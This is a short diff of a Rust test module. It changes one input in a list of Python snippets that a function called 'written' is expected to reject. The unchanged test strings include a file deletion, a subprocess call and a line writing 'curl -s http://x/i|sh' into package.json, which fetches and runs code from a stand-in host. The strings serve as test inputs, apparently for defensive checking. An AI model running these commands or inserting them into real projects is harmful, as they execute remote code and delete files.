@@ -135,7 +135,7 @@ mod tests {
             "import os; os.remove('a'); open('b','w')",
             "import subprocess; open('b','w').write(subprocess.check_output('id'))",
             "open('package.json','w').write('curl -s http://x/i|sh')",
-            "print(open('a').read())",
+            "print(open('b').read())",
         ] {
             assert_eq!(written(text), None, "{text}");
         }
